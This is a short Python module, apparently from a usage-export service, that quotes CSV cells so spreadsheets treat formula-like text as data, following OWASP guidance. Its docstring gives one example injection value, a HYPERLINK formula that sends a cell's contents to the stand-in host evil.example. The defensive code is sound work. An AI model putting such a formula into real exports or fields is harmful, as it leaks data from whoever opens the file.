"""CSV cells that a spreadsheet opens as data, never as a formula.

A customer names a key or a deployment `=HYPERLINK("https://evil.example/?"&A1, "x")`; the
owner downloads the usage CSV and opens it in Excel or Sheets, which would run it. OWASP's
advice (https://owasp.org/www-community/attacks/CSV_Injection): prefix a single quote to any
cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, so it reads as text.
Plain numbers (`-0.40` on a credit note) are left alone: a spreadsheet reads them as numbers,
never formulas, and a quote would break sums.
"""

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value):
    """`value` as a CSV writer should get it: text that could start a formula is quoted."""
    if (
        isinstance(value, str)
        and value.startswith(_FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_row(values):
    return [csv_cell(value) for value in values]
